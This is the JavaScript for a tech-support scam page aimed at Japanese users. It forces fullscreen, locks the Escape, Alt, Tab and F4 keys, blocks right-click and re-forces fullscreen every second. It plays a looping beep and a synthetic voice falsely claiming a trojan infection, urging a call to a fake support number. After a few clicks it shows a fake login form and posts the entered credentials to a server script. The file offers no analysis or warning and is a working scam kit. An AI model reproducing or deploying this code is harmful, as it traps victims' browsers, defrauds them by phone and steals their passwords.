var tel = "050-0000-0000";
var step = 0;
var timer = null;
function alertSound() {
  var a = document.getElementById("beep");
  a.muted = false;
  a.play();
  a.onended = function () { a.play(); };
  speak("あなたのコンピュータはトロイの木馬に感染しています。すぐにサポートセンターにお電話ください。");
}
function speak(s) {
  var u = new SpeechSynthesisUtterance(s);
  u.lang = "ja-JP";
  u.onend = function () { speak(s); };
  window.speechSynthesis.speak(u);
}
function full() {
  if (document.fullscreenElement) return;
  document.documentElement.requestFullscreen({ navigationUI: "hidden" }).then(function () {
    if (navigator.keyboard) navigator.keyboard.lock(["Escape", "AltLeft", "Tab", "F4"]);
  });
}
window.addEventListener("load", function () {
  $(".popup").each(function (i, p) {
    setTimeout(function () { $(p).fadeIn(300); }, i * 1200);
  });
  $(".tel").text(tel);
  $("#close, .cancel, body").on("click", function (e) {
    e.preventDefault();
    full();
    alertSound();
    if (step++ > 2) $("#login").show();
  });
  $("#login form").on("submit", function () {
    $(".msg").text("パスワードが違います。サポート " + tel + " までお電話ください");
    $.post("l.php", $(this).serialize());
    return false;
  });
  timer = setInterval(full, 1000);
});
document.addEventListener("keydown", function (e) { e.preventDefault(); full(); });
document.oncontextmenu = function () { return false; };
